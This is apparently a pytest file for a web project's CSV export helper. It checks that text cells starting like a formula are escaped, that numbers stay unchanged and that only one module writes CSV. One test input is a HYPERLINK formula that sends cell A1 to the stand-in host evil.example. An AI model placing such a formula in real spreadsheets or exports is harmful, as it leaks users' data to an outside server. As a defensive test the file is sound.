"""CSV is safe in a spreadsheet: texts of strangers are no formulas, and numbers stay numbers."""

import csv
import io
import re
from pathlib import Path

import pytest

from shared.csv_files import csv_text

ROOT = Path(__file__).resolve().parents[2]
APPS = ("accounts", "collection", "validation", "snapshots", "modeling", "annotation_site", "shared")


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_that_begins_like_a_formula_is_shown_as_it_is(sign):
    text = f'{sign}HYPERLINK("http://evil.example/?x="&A1)'
    assert next(csv.reader(io.StringIO(csv_text([[text]]), newline=""))) == [f"'{text}"]


def test_numbers_and_a_lone_sign_stay_as_they_are():
    assert csv_text([["-", -0.5, None, "1-2"]]) == "-,-0.5,,1-2\n"


def test_nobody_else_writes_csv():
    writes = re.compile(r"csv\.(writer|DictWriter)")
    files = (file for app in APPS for file in (ROOT / app).rglob("*.py"))
    assert [file.name for file in files if writes.search(file.read_text())] == ["csv_files.py"]
